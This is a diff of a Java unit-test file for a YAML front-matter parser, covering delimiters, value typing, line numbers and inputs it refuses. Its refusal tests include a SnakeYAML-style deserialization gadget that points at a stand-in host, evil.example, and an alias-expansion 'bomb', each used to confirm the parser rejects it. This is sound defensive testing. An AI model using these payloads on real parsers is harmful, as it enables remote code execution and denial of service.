@@ -1,204 +1,328 @@
 package io.github.registryorg.metadata;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
 
 import com.fasterxml.jackson.databind.JsonNode;
-import io.github.registryorg.oci.Json;
 import io.github.registryorg.problem.Problem;
 import io.github.registryorg.problem.ProblemCode;
-import io.github.registryorg.problem.RegistryException;
 import java.nio.charset.StandardCharsets;
-import java.util.ArrayList;
-import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
-import org.junit.jupiter.params.provider.EnumSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** Front matter is read leniently with its lines, and written so that it reads the same. */
+/** Front matter and YAML as strangers write it: what is read of it, where it stands, and what is refused. */
 class FrontMatterTest {
 
     private static final String FILE = "acme/app/README.md";
 
-    private static FrontMatter read(String text) {
+    private static FrontMatter markdown(String text) {
         return FrontMatter.readMarkdown(FILE, text.getBytes(StandardCharsets.UTF_8));
     }
 
-    private static Problem refusal(String text) {
-        Problem[] problem = new Problem[1];
-        assertThatExceptionOfType(RegistryException.class)
-                .isThrownBy(() -> read(text))
-                .satisfies(e -> problem[0] = e.problem());
-        assertThat(problem[0].code()).isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
-        return problem[0];
+    private static FrontMatter yaml(String text) {
+        return FrontMatter.readYaml(FILE, text.getBytes(StandardCharsets.UTF_8));
+    }
+
+    private static JsonNode value(String yaml) {
+        return yaml("key: " + yaml).keys().toJson().get("key");
+    }
+
+    private static void assertInvalid(Problem problem, int line, String what) {
+        assertThat(problem.code()).isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
+        assertThat(problem.subject()).isEqualTo(FILE);
+        assertThat(problem.what()).isEqualTo(what);
+        assertThat(problem.location()).hasToString(FILE + ":" + line);
+        assertThat(problem.hint()).isNotBlank();
+    }
+
+    // where it begins and ends
+
+    @Test
+    void keysAndMarkdownAreApart() {
+        FrontMatter read = markdown("---\ntitle: The app\n---\n\n# Hello\n");
+
+        assertThat(read.text("title")).contains("The app");
+        assertThat(read.body()).isEqualTo("\n# Hello\n");
+        assertThat(read.file()).isEqualTo(FILE);
     }
 
     @Test
-    void keysKnowTheirLines() {
-        FrontMatter keys = read("---\nlayout: collection\n\n# a comment\nstore:\n- a\n- b\n---\nBody\n---\nmore\n");
-        assertThat(keys.at("layout")).hasToString(FILE + ":2");
-        assertThat(keys.at("store").line()).isBetween(5, 6);
-        assertThat(keys.at("absent")).hasToString(FILE);
-        assertThat(keys.texts("store")).containsExactly("a", "b");
-        assertThat(keys.texts("layout")).containsExactly("collection");
-        assertThat(keys.body()).isEqualTo("Body\n---\nmore\n");
-    }
-
-    @Test
-    void windowsAndItsMarkAreNoFault() {
-        FrontMatter keys = read("\uFEFF---\r\nlayout: collection\r\nsize: 3\r\n---\r\nBody\r\n");
-        assertThat(keys.text("layout")).contains("collection");
-        assertThat(keys.integer("size")).hasValue(3);
-        assertThat(keys.body()).isEqualTo("Body\n");
+    void aLineOfDashesInTheMarkdownIsMarkdown() {
+        assertThat(markdown("---\na: 1\n---\nover\n---\nb: 2\n---\n").body()).isEqualTo("over\n---\nb: 2\n---\n");
     }
 
     @ParameterizedTest
-    @CsvSource({
-        "1.10, 1.10",
-        "'\"1.10\"', 1.10",
-        "007, 007",
-        "1e3, 1e3",
-        "0x10, 0x10",
-        "yes, yes",
-        "2026-11-20, 2026-11-20"
-    })
-    void versionsAndDatesStayAsTheyAreWritten(String written, String text) {
-        FrontMatter keys = read("---\nversion: " + written + "\n---\n");
-        assertThat(keys.text("version")).contains(text);
-        assertThat(keys.integer("version")).isEmpty();
+    @ValueSource(strings = {"---\na: 1\n---", "---\na: 1\n---\n", "---  \na: 1\n---  \n", "---\na: 1\n...\n"})
+    void theMarkdownMayBeAbsent(String text) {
+        assertThat(markdown(text).text("a")).contains("1");
+        assertThat(markdown(text).body()).isEmpty();
     }
 
     @Test
-    void onlyPlainDecimalIntegersAreNumbers() {
-        assertThat(read("---\nsize: 12\n---\n").integer("size")).hasValue(12);
-        assertThat(read("---\nsize: \"12\"\n---\n").integer("size")).isEmpty();
-        assertThat(read("---\nsize: 99999999999999999999\n---\n").integer("size"))
-                .isEmpty();
+    void frontMatterMayHaveNoKey() {
+        assertThat(markdown("---\n---\ntext\n").keys().entries()).isEmpty();
+        assertThat(markdown("---\n# a comment\n---\ntext\n").body()).isEqualTo("text\n");
+    }
+
+    @Test
+    void anIndentedLineOfDashesIsPartOfAValue() {
+        assertThat(markdown("---\na: |\n  x\n  ---\n  y\n---\n").text("a")).contains("x\n---\ny\n");
+    }
+
+    @Test
+    void crlfIsReadAsLf() {
+        FrontMatter read = markdown("---\r\ntitle: x\r\nstore: y\r\n---\r\none\r\ntwo\r\n");
+
+        assertThat(read.text("title")).contains("x");
+        assertThat(read.at("store")).hasToString(FILE + ":3");
+        assertThat(read.body()).isEqualTo("one\ntwo\n");
+    }
+
+    @Test
+    void aByteOrderMarkIsPassedOver() {
+        assertThat(markdown("\uFEFF---\ntitle: x\n---\n").text("title")).contains("x");
+        assertThat(yaml("\uFEFFtitle: x\n").text("title")).contains("x");
+        assertThat(FrontMatter.isIn("\uFEFF---\n".getBytes(StandardCharsets.UTF_8)))
+                .isTrue();
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"---\n---\n", "---\n\n---\nBody", "---\n# nothing\n---\n"})
-    void anEmptyMappingIsFine(String text) {
-        assertThat(read(text).text("layout")).isEmpty();
+    @ValueSource(
+            strings = {"", "# Title\n", "\n---\na: 1\n---\n", " ---\na: 1\n---\n", "----\na: 1\n----\n", "--\n", "---"})
+    void aFileWithoutFrontMatterIsSaid(String text) {
+        assertInvalid(Problems.of(() -> markdown(text)), 1, "has no front matter in its first line");
+        assertThat(FrontMatter.isIn(text.getBytes(StandardCharsets.UTF_8))).isFalse();
     }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"---\n", "---\na: 1\n", "---\na: 1\n ---\n", "---\na: 1\n--- x\n"})
+    void frontMatterThatDoesNotEndIsSaid(String text) {
+        assertInvalid(Problems.of(() -> markdown(text)), 1, "has front matter that does not end");
+        assertThat(FrontMatter.isIn(text.getBytes(StandardCharsets.UTF_8))).isTrue();
+    }
+
+    @Test
+    void whatIsNotUtf8IsSaidWithItsLine() {
+        byte[] latin1 = "---\ntitle: x\ndescription: caf\u00e9\n---\n".getBytes(StandardCharsets.ISO_8859_1);
+
+        assertInvalid(Problems.of(() -> FrontMatter.readMarkdown(FILE, latin1)), 3, "is not UTF-8");
+    }
+
+    @Test
+    void brokenUtf8InTheMarkdownIsSaidToo() {
+        byte[] bytes = "---\na: 1\n---\nx\n?\n".getBytes(StandardCharsets.US_ASCII);
+        bytes[bytes.length - 2] = (byte) 0xff;
+
+        assertInvalid(Problems.of(() -> FrontMatter.readMarkdown(FILE, bytes)), 5, "is not UTF-8");
+    }
+
+    // values
 
     @ParameterizedTest
     @CsvSource(
             delimiter = '|',
+            quoteCharacter = '`',
             value = {
-                "no fence|has no front matter in its first line|1",
-                "---\\nlayout: x|has front matter that does not end|1",
-                "---\\n- a\\n---\\n|must be a mapping of keys to values|2",
-                "---\\njust text\\n---\\n|must be a mapping of keys to values|2",
-                "---\\na: 1\\nb: 2\\na: 3\\n---\\n|has the key \"a\" twice|4",
-                "---\\na: &x [1]\\n---\\n|has an anchor or alias|2",
-                "---\\na: 1\\nb: *a\\n---\\n|has an anchor or alias|3",
-                "---\\na: !!java.net.URL [\"http://x\"]\\n---\\n|has a type tag|2",
-                "---\\na: !x 1\\n---\\n|has a type tag|2",
-                "---\\na: {b: {c: {d: {e: {f: {g: {h: {i: {j: {k: {l: {m: {n: {o: {p: {q: 1}}}}}}}}}}}}}}}}\\n---\\n|nested|2",
-                "---\\na: \"unclosed\\n---\\n|is not valid YAML|2",
-                "---\\n\\ta: 1\\n---\\n|is not valid YAML|2"
+                "12 | 12",
+                "-3 | -3",
+                "0 | 0",
+                "999999999999999999 | 999999999999999999",
+                "'12' | \"12\"",
+                "\"12\" | \"12\"",
+                "1.10 | \"1.10\"",
+                "1e3 | \"1e3\"",
+                "0x1F | \"0x1F\"",
+                "0o17 | \"0o17\"",
+                "017 | \"017\"",
+                "1_000 | \"1_000\"",
+                "+1 | \"+1\"",
+                "9999999999999999999999 | \"9999999999999999999999\"",
+                ".inf | \".inf\"",
+                "true | true",
+                "false | false",
+                "'true' | \"true\"",
+                "yes | \"yes\"",
+                "no | \"no\"",
+                "on | \"on\"",
+                "True | \"True\"",
+                "2026-11-20T10:11:12Z | \"2026-11-20T10:11:12Z\"",
+                "2026-11-20 | \"2026-11-20\"",
+                "12:30:45 | \"12:30:45\"",
+                "'' | \"\"",
+                "'null' | \"null\"",
+                "[a, 1, '1'] | [\"a\",1,\"1\"]",
+                "{a: 1} | {\"a\":1}",
+                "a b # comment | \"a b\""
             })
-    void whatIsNoFrontMatterIsSaidWithItsLine(String text, String what, int line) {
-        Problem problem = refusal(text.replace("\\n", "\n").replace("\\t", "\t"));
-        assertThat(problem.toString()).contains(what);
-        assertThat(problem.location().line()).as(problem.toString()).isEqualTo(line);
+    void onlyPlainDecimalIntegersAndTrueAndFalseAreNoText(String yaml, String json) {
+        assertThat(value(yaml).toString()).isEqualTo(json);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"", "~", "null"})
+    void aKeyWithoutAValueIsAbsent(String nothing) {
+        FrontMatter read = yaml("a: " + nothing + "\nb: 1\n");
+
+        assertThat(read.keys().entries()).containsOnlyKeys("b");
+        assertThat(read.text("a")).isEmpty();
+        assertThat(read.at("a")).hasToString(FILE);
     }
 
     @Test
-    void aSecondDocumentIsRefusedInYamlFiles() {
-        assertThatExceptionOfType(RegistryException.class)
-                .isThrownBy(() ->
-                        FrontMatter.readYaml("registry.yaml", "a: 1\n---\nb: 2\n".getBytes(StandardCharsets.UTF_8)))
-                .withMessageContaining("more than one YAML document");
+    void textsAreAListOrTheOneInItsPlace() {
+        FrontMatter read = yaml("one: x\nmany: [x, 1.10, {a: b}]\nblock:\n- x\n- 'y'\n");
+
+        assertThat(read.texts("one")).containsExactly("x");
+        assertThat(read.texts("many")).containsExactly("x", "1.10");
+        assertThat(read.texts("block")).containsExactly("x", "y");
+        assertThat(read.texts("none")).isEmpty();
+    }
+
+    @Test
+    void anIntegerIsPlain() {
+        FrontMatter read = yaml("plain: 12\nquoted: '12'\nfraction: 1.5\nlist: [1]\n");
+
+        assertThat(read.integer("plain")).hasValue(12);
+        assertThat(read.integer("quoted")).isEmpty();
+        assertThat(read.integer("fraction")).isEmpty();
+        assertThat(read.integer("list")).isEmpty();
+        assertThat(read.integer("none")).isEmpty();
+        assertThat(read.text("list")).isEmpty();
+    }
+
+    // lines
+
+    @Test
+    void eachValueKnowsItsLineInItsFile() {
+        FrontMatter read = markdown("---\n# comment\na: 1\n\nb: |\n  x\n  y\nlist:\n- one\n- k: v\n  u: w\n---\n");
+
+        assertThat(read.at("a")).hasToString(FILE + ":3");
+        assertThat(read.at("b")).hasToString(FILE + ":5");
+        YamlValue.Sequence list = (YamlValue.Sequence) read.keys().entries().get("list");
+        assertThat(list.items().get(0).line()).isEqualTo(9);
+        YamlValue.Mapping item = (YamlValue.Mapping) list.items().get(1);
+        assertThat(item.entries().get("k").line()).isEqualTo(10);
+        assertThat(item.entries().get("u").line()).isEqualTo(11);
+    }
+
+    @Test
+    void aYamlFileCountsFromItsFirstLine() {
+        assertThat(yaml("a: 1\nb: 2\n").at("b")).hasToString(FILE + ":2");
+        assertThat(yaml("---\na: 1\nb: 2\n").at("b")).hasToString(FILE + ":3");
+    }
+
+    // what is refused
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '`',
+            value = {
+                "a: [1\\nb: 2 | 3",
+                "a: b: c | 2",
+                "x: 1\\na: 'open | 4",
+                "x: 1\\ny: 2\\nz: {a: 1 | 5",
+                "x: 1\\n\\ta: 1 | 3",
+                "x: 1\\na: @at | 3",
+                "x: 1\\na: \\u0001 | 3"
+            })
+    void whatIsNotYamlIsSaidWithItsLine(String text, int line) {
+        String yaml = text.replace("\\n", "\n").replace("\\t", "\t").replace("\\u0001", "\u0001");
+        Problem problem = Problems.of(() -> markdown("---\n" + yaml + "\n---\n"));
+
+        assertInvalid(problem, line, "is not valid YAML");
+        assertThat(problem.cause()).isNotBlank().doesNotContain("\n");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"- a\n- b\n", "just words\n", "12\n", "'quoted'\n"})
+    void whatIsNoMappingIsSaid(String text) {
+        assertInvalid(Problems.of(() -> markdown("---\n" + text + "---\n")), 2, "must be a mapping of keys to values");
+    }
+
+    @Test
+    void aSecondDocumentIsSaid() {
+        assertInvalid(Problems.of(() -> yaml("a: 1\n---\nb: 2\n")), 3, "has more than one YAML document");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"a: 1\nb: 2\na: 3\n", "a:\nb: 2\na: 3\n", "a: 1\nb: 2\na:\n", "a: 1\nb: 2\n'a': 3\n"})
+    void aKeyThatIsThereTwiceIsSaid(String text) {
+        assertInvalid(Problems.of(() -> yaml(text)), 3, "has the key \"a\" twice");
+    }
+
+    @Test
+    void aKeyThatIsThereTwiceFurtherDownIsSaid() {
+        assertInvalid(Problems.of(() -> yaml("l:\n- a: 1\n  b: 2\n  a: 3\n")), 4, "has the key \"a\" twice");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"a: 1\nb: &x [1]\n", "a: 1\nb: &x {c: 1}\n", "a: &x y\nb: *x\n", "l:\n- &x [1]\n"})
+    void anAnchorOrAliasIsRefused(String text) {
+        Problem problem = Problems.of(() -> yaml(text));
+
+        assertThat(problem.what()).isEqualTo("has an anchor or alias (& or *)");
+        assertThat(problem.location().line()).isBetween(1, 2);
+        assertThat(problem.hint()).isEqualTo("Write the value out, or quote it.");
+    }
+
+    @Test
+    void anAnchorOfATextStandsForNothing() {
+        assertThat(yaml("a: &x y\n&z b: 1\n").keys().toJson()).hasToString("{\"a\":\"y\",\"b\":1}");
+    }
+
+    @Test
+    void aliasesThatStandForMillionsAreRefusedAtOnce() {
+        StringBuilder bomb = new StringBuilder("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
+        for (int i = 1; i < 12; i++) {
+            String alias = "*a" + (i - 1);
+            bomb.append(
+                    "a" + i + ": &a" + i + " [" + String.join(",", java.util.Collections.nCopies(10, alias)) + "]\n");
+        }
+
+        assertInvalid(Problems.of(() -> yaml(bomb.toString())), 1, "has an anchor or alias (& or *)");
     }
 
     @ParameterizedTest
     @ValueSource(
             strings = {
-                "plain",
-                "1.10",
-                "12",
-                "true",
-                "null",
-                "~",
-                "",
-                " leading",
-                "trailing ",
-                "a: b",
-                "a #b",
-                "# a",
-                "- a",
-                "*a",
-                "&a",
-                "!a",
-                "%a",
-                "@a",
-                "`a",
-                "{a}",
-                "[a]",
-                "\"a\"",
-                "'a'",
-                "a\nb",
-                "---",
-                "a\n---\nb",
-                "...",
-                "\ttab",
-                "a\\b",
-                "ünïcödé 😀",
-                "yes",
-                "no",
-                "on",
-                "2026-11-20",
-                "0x10",
-                "1_000",
-                "? a",
-                "| a",
-                "> a",
-                "=",
-                "<<"
+                "a: 1\nb: !!str 12\n",
+                "a: 1\nb: !!java.util.Date x\n",
+                "a: 1\nb: !own [1]\n",
+                "a: 1\nb: !own {c: 1}\n",
+                "a: 1\nb: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]\n"
             })
-    void whatIsWrittenReadsTheSame(String value) {
-        byte[] written = new FrontMatterWriter()
-                .put("layout", "collection")
-                .put("description", value)
-                .putOneOrMany("store", List.of(value, "second"))
-                .markdown("Body\n");
-        FrontMatter keys = FrontMatter.readMarkdown(FILE, written);
-        // an empty value says as little as an absent one
-        assertThat(keys.text("description").orElse("")).isEqualTo(value);
-        assertThat(keys.texts("store")).containsExactly(value, "second");
-        assertThat(keys.body()).isEqualTo("Body\n");
-        assertThat(keys.integer("description")).isEmpty();
-    }
-
-    @ParameterizedTest
-    @EnumSource(FrontMatterKind.class)
-    void everyKeyHasADocumentedMeaning(FrontMatterKind kind) throws Exception {
-        JsonNode schema = Json.mapper().readTree(kind.schemaText());
-        assertThat(schema.at("/$id").asText()).isNotBlank();
-        schema.get("properties")
-                .propertyStream()
-                .forEach(property -> assertThat(
-                                property.getValue().path("description").asText())
-                        .as(kind + "." + property.getKey())
-                        .isNotBlank());
+    void aTypeTagIsRefused(String text) {
+        assertInvalid(Problems.of(() -> yaml(text)), 2, "has a type tag (!)");
     }
 
     @Test
-    void whatBreaksASchemaIsSaidByItsKeyWithWhatItMeans() {
-        List<Problem> problems = new ArrayList<>();
-        FrontMatter keys =
-                read("---\nlayout: manifests/oci\nmediaType: 3\ndigest: sha256:00\nsize: -1\nplatforms: [linux]\n"
-                        + "colour: red\n---\n");
+    void sixteenLevelsAreReadAndMoreAreRefused() {
+        assertThat(yaml("a: " + "[".repeat(14) + "1" + "]".repeat(14)).keys().entries())
+                .containsOnlyKeys("a");
 
-        assertThat(FrontMatterKind.OCI_TAG.check(keys, problems::add)).isFalse();
-        assertThat(problems)
-                .extracting(problem -> problem.code() + " " + problem.location().line())
-                .contains(
-                        "FRONT_MATTER_INVALID 3", "FRONT_MATTER_INVALID 4", "FRONT_MATTER_INVALID 5", "KEY_UNKNOWN 7");
-        assertThat(problems).allSatisfy(problem -> assertThat(problem.hint()).isNotBlank());
+        Problem problem = Problems.of(() -> yaml("x: 1\na: " + "[".repeat(40) + "]".repeat(40)));
+        assertThat(problem.code()).isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
+        assertThat(problem.toString()).containsIgnoringCase("nest");
+        assertThat(problem.hint()).isNotBlank();
+        assertThat(problem.location().line()).isBetween(1, 2);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"[", "{a: "})
+    void nestingOfAHundredThousandIsRefusedAsAProblem(String open) {
+        assertThat(Problems.of(() -> yaml("a: " + open.repeat(100_000))).code())
+                .isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
+    }
+
+    @Test
+    void aKeyThatIsNoTextIsRefused() {
+        assertThat(Problems.of(() -> yaml("? [a, b]\n: c\n")).code()).isEqualTo(ProblemCode.FRONT_MATTER_INVALID);
+    }
+
+    @Test
+    void aMergeKeyIsAnOrdinaryKey() {
+        assertThat(yaml("<<: x\n").keys().entries()).containsOnlyKeys("<<");
     }
 }
